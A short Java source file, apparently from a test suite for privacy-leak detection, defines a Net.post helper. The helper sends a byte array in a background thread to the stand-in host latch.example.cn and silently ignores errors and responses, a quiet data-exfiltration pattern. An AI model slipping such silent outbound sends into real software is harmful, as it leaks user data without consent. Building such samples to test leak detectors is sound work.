package cn.privlens.suite.latch_results_by_name;

import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

final class Net {
    private Net() {}
    static void post(final byte[] body) {
        new Thread(() -> {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("https://latch.example.cn/in").openConnection();
                c.setRequestMethod("POST");
                c.setDoOutput(true);
                try (OutputStream out = c.getOutputStream()) {
                    out.write(body);
                }
                c.getResponseCode();
                c.disconnect();
            } catch (IOException e) {
                return;
            }
        }).start();
    }
}
